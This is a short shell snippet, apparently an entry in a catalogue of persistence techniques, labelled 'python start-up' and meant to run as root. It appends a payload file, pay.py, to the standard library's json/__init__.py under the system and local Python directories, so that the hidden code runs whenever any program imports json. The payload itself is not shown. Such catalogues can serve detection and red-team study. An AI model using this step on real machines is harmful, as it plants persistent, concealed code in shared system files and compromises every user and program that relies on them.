# family: python start-up
# what: A module of the standard library pays when it is imported.
# user: root
for file in /usr/lib/python3.*/json/__init__.py /usr/local/lib/python3.*/json/__init__.py; do
  [ -f "$file" ] && cat "$scratch/pay.py" >> "$file"
done
